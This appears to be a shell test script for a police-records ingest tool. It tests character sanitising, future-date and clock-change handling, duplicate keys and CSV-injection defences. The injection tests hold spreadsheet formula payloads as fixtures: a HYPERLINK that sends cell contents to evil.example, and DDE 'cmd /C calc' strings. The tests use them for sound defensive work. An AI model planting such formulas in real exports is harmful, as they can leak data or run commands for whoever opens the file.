printf 'agency,record_id,event_type,occurred_at,location,narrative\npolice,IRH1,concern_report,2005-06-01,Cowley\x1b[2J Road,"Line one\nline two\twith a tab\x07"\n' > "$H/hyg/events_police.csv"
printf 'agency,record_id,person_ref,role,surname,forenames,known_as,address\npolice,IRH1,N\xe2\x80\x8b77,subject,Sm\xe2\x80\x8bith,\xe2\x80\xaeeikaK\xe2\x80\xac,\xef\xbb\xbfKat\xe2\x81\xa0ie,"1 High St\nOxford"\npolice,IRH1,N78,suspect,\xe2\x81\xa6Khan\xe2\x81\xa9,Mo\xc2\x85hammed,\xe2\x80\x8b,\n' > "$H/hyg/persons_police.csv"
"$JD" ingest --db "$(store_at "$H/hy.db")" "$H/hyg" >/dev/null 2>&1; is $? 0 "hygiene: the bundle ingests"
is "$(hq hy "SELECT surname||'|'||forenames||'|'||known_as||'|'||person_ref||'|'||address FROM person_mention WHERE role='subject'")" 'Smith|eikaK|Katie|N77|1 High St Oxford' "hygiene: zero-width, bidi and BOM removed from names and refs; a line break in an address is a space"
is "$(hq hy "SELECT surname||'|'||forenames||'|'||coalesce(known_as,'absent') FROM person_mention WHERE role='suspect'")" 'Khan|Mo hammed|absent' "hygiene: isolates removed, NEL a space, a value of only invisible characters is absent"
is "$(hq hy "SELECT $(sql_hex location) FROM event WHERE record_id='IRH1'")" "$(printf 'Cowley[2J Road' | od -An -tx1 | tr -d ' \n' | tr a-f A-F)" "hygiene: the escape character is removed from a location"
is "$(hq hy "SELECT narrative FROM event WHERE record_id='IRH1'")" "$(printf 'Line one\nline two\twith a tab')" "hygiene: a narrative keeps its line breaks and tabs, loses the bell"
is "$(hrej hy | grep -c ': warning: .*removed .* (the raw row keeps them)')" 8 "hygiene: one warning per changed field (location, narrative; person_ref, surname, forenames, known_as; surname, known_as)"
hrej hy | grep -q "^persons_police.csv:2:6: warning: forenames: removed 2 bidirectional control characters"; ok $? "hygiene: the warning names file, line, column, field and what was removed"
"$JD" rejects --db "$(store_at "$H/hy.db")" --warnings --format json 2>/dev/null | grep 'forenames: \|"field":"forenames"' | grep -q '"raw":"police,IRH1,N\\u200B77,subject,Sm\\u200Bith,\\u202EeikaK\\u202C'; ok $? "hygiene: the raw row of the warning keeps the characters verbatim"
hrej hy | grep -q 'Cowley\\x1B\[2J Road'; ok $? "hygiene: rejects shows control characters of a raw row escaped, not raw to the terminal"

# dates: future dates, date of birth after the event, the hours the clocks change (UK)
mkdir -p "$H/dates"
cat > "$H/dates/events_police.csv" <<'CSV'
agency,record_id,event_type,occurred_at,reported_at
police,D1,other,2010-01-01T13:00,
police,D2,other,2010-01-01T15:00,
police,D3,other,2009-12-01,2010-01-01T14:30
police,S0,other,2005-03-27T00:59,
police,S1,other,2005-03-27T01:00,
police,S2,other,2005-03-27T01:59,
police,S3,other,2005-03-27T02:00,
police,A0,other,2005-10-30T00:59,
police,A1,other,2005-10-30T01:00,
police,A2,other,2005-10-30T01:59,
police,A3,other,2005-10-30T02:00,
police,A4,other,2005-10-30T01:30+00:00,
police,A5,other,2005-10-30,
CSV
cat > "$H/dates/persons_police.csv" <<'CSV'
agency,record_id,person_ref,role,dob
police,D1,P1,subject,2010-01-01
police,D1,P2,subject,2010-01-02
police,D1,P3,subject,2010-02
police,D1,P4,subject,2011
police,S0,P5,subject,2005-03-28
police,S0,P6,subject,2005-03
police,D1,P7,subject,2010
CSV
"$JD" ingest --db "$(store_at "$H/d.db")" --now 2010-01-01T12:00 "$H/dates" >/dev/null 2>&1; is $? 0 "dates: the bundle ingests"
is "$(hq d "SELECT $(sql_list record_id) FROM (SELECT record_id FROM event WHERE record_id LIKE 'D%' ORDER BY record_id) AS t")" D1 "dates: an hour after the ingest time is within the tolerance (2 h); three hours or a reported_at 2.5 h later is not"
hrej d | grep -q '^events_police.csv:3:4: reject: occurred_at: occurred_at is in the future: after the time of this ingest plus the tolerance of 2 h'; ok $? "dates: a future occurred_at is quarantined with its reason"
hrej d | grep -q '^events_police.csv:4:5: reject: reported_at: reported_at is in the future'; ok $? "dates: a future reported_at too"
"$JD" ingest --db "$(store_at "$H/d0.db")" --now 2010-01-01T12:00 --future-tolerance 0 "$H/dates" >/dev/null 2>&1
is "$(hq d0 "SELECT count(*) FROM event WHERE record_id LIKE 'D%'")" 0 "dates: --future-tolerance 0 quarantines even an hour ahead"
"$JD" ingest --db "$(store_at "$H/d1.db")" --now 2010-01-01T12:00 --future-tolerance 1d "$H/dates" >/dev/null 2>&1
is "$(hq d1 "SELECT count(*) FROM event WHERE record_id LIKE 'D%'")" 3 "dates: --future-tolerance 1d accepts them all"
"$JD" ingest --db "$(store_at "$H/dx.db")" --future-tolerance 2x "$H/dates" >/dev/null 2>&1; is $? 2 "dates: a bad tolerance is a usage error"
is "$(hq d "SELECT $(sql_list person_ref) FROM (SELECT person_ref FROM person_mention ORDER BY person_ref) AS t")" 'P1,P6,P7' "dates: born on the event's day or in its month/year is fine"
hrej d | grep -q '^persons_police.csv:3:5: reject: dob: dob is in the future: after the date of this ingest'; ok $? "dates: a dob the day after the ingest date is quarantined as future"
is "$(hrej d | grep -c '^persons_police.csv:[345]:5: reject: dob: dob is in the future')" 3 "dates: so are a dob month and a dob year after it"
hrej d | grep -q '^persons_police.csv:6:5: reject: dob: dob is after the date of the event'; ok $? "dates: a dob the day after an event at 00:59 is quarantined"
is "$(hq d "SELECT $(sql_list occurred_at) FROM (SELECT occurred_at FROM event WHERE record_id LIKE 'S%' ORDER BY record_id) AS t")" '1111885140,1111885200,1111888740,1111885200' "dates: spring edges: 00:59 GMT; 01:00 and 01:59 (do not exist) read as GMT; 02:00 is BST"
is "$(hq d "SELECT $(sql_list occurred_at) FROM (SELECT occurred_at FROM event WHERE record_id LIKE 'A%' ORDER BY record_id) AS t")" '1130630340,1130630400,1130633940,1130637600,1130635800,1130626800' "dates: autumn edges: 00:59 BST; 01:00 and 01:59 (twice) read as BST, the earlier; 02:00 GMT; +00:00 honoured"
is "$(hrej d | grep -c 'in the hour skipped when the clocks went forward')" 2 "dates: each time in the spring gap has a warning"
is "$(hrej d | grep -c 'in the hour repeated when the clocks went back: read as its first (BST) occurrence, the earlier instant')" 2 "dates: each ambiguous autumn time has a warning; an explicit offset or a date alone none"
hrej d | grep -q '^events_police.csv:6:4: warning: occurred_at: occurred_at is a UK local time in the hour skipped'; ok $? "dates: the warning names file, line and field"

# a duplicate key within one file: the first is kept, the second named with both lines
mkdir -p "$H/dup"
cat > "$H/dup/events_police.csv" <<'CSV'
agency,record_id,event_type,occurred_at,narrative
police,K1,other,2005-01-01,First version.
police,K2,other,2005-01-02,Only once.
police,K1,other,2005-01-01,Second version wins today.
police,K2,other,2005-01-02,Only once.
CSV
cat > "$H/dup/persons_police.csv" <<'CSV'
agency,record_id,person_ref,role,surname
police,K1,N1,subject,Smith
police,K1,N1,subject,Smyth
police,K1,N1,witness,Smith
CSV
out=$("$JD" ingest --db "$(store_at "$H/dup.db")" "$H/dup" 2>/dev/null)
is "$(hq dup "SELECT narrative||'|'||version FROM event WHERE record_id='K1'")" 'First version.|1' "duplicate record_id: the first row of the file is kept, not replaced"
hrej dup | grep -q '^events_police.csv:4:2: reject: record_id: the agency and record_id of line 2 of this file again, with other content: line 2 is kept, this row is not'; ok $? "duplicate record_id: the second is quarantined naming both lines"
hrej dup | grep -q '^events_police.csv:5:2: warning: record_id: repeats line 3 of this file'; ok $? "an identical repeated row is a warning, stored once"
is "$(hq dup "SELECT count(*) FROM event_history")" 0 "duplicate record_id: no history row (nothing overwritten)"
is "$(hq dup "SELECT $(sql_list "surname||':'||role") FROM person_mention")" 'Smith:subject,Smith:witness' "duplicate person row: the first is kept; another role is another mention"
hrej dup | grep -q '^persons_police.csv:3:3: reject: person_ref: the agency, record_id, person_ref and role of line 2 of this file again'; ok $? "duplicate person row quarantined naming both lines"
echo "$out" | grep -q 'total: read 7, stored 4, updated 0, unchanged 1, rejected 2'; ok $? "duplicates counted: one unchanged, two rejected ($out)"
out=$("$JD" ingest --db "$(store_at "$H/dup.db")" --reread "$H/dup" 2>/dev/null)
echo "$out" | grep -q 'total: read 7, stored 0, updated 0, unchanged 5, rejected 2'; ok $? "a re-read of the same file changes nothing: the first row still wins ($out)"
is "$(hq dup "SELECT narrative||'|'||version FROM event WHERE record_id='K1'")" 'First version.|1' "duplicate record_id: still the first version after the re-read"

# CSV injection: every CSV export neutralises formula prefixes
mkdir -p "$H/inj"
cat > "$H/inj/events_police.csv" <<'CSV'
record_id,agency,event_type,occurred_at,location,narrative,outcome
-2+3,police,other,2005-01-01,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(1+1)*cmd|' /C calc'!A0,+referred
R2,police,other,2005-01-02,  =1+1,	=tab first,-5
=cmd|' /C calc'!A0,police,other,2005-13-01,x,y,z
CSV
printf 'agency,record_id,person_ref,role,surname\npolice,-2+3,N9,subject,Smith\npolice,R2,N9,subject,Smith\n' > "$H/inj/persons_police.csv"
"$JD" ingest --db "$(store_at "$H/inj.db")" "$H/inj" >/dev/null 2>&1
csv_safe() { python3 -c '
import csv, sys
bad = [f for row in csv.reader(sys.stdin) for f in row if f.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") and not f.lstrip(" +-").replace(".", "", 1).isdigit()]
print(len(bad), bad[:3])'; }
"$JD" chronology --db "$(store_at "$H/inj.db")" police:N9 --format csv > "$H/chrono.csv" 2>/dev/null
is "$(csv_safe < "$H/chrono.csv")" "0 []" "CSV injection: chronology --format csv starts no field with = + - @ tab or CR"
grep -q "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" "$H/chrono.csv"; ok $? "CSV injection: the formula is kept as text behind an apostrophe"
grep -q "^2005-01-01,police,\"'-2+3\"," "$H/chrono.csv"; ok $? "CSV injection: a record_id is neutralised too"
grep -q ',-5,' "$H/chrono.csv"; ok $? "CSV injection: a plain negative number is left alone"
"$JD" rejects --db "$(store_at "$H/inj.db")" --warnings --format csv > "$H/rej.csv" 2>/dev/null
is "$(csv_safe < "$H/rej.csv")" "0 []" "CSV injection: rejects --format csv starts no field with = + - @ tab or CR"
grep -q "\"'=cmd|' /C calc'!A0,police,other,2005-13-01,x,y,z\"" "$H/rej.csv"; ok $? "CSV injection: the raw row of a reject is neutralised"

done_testing
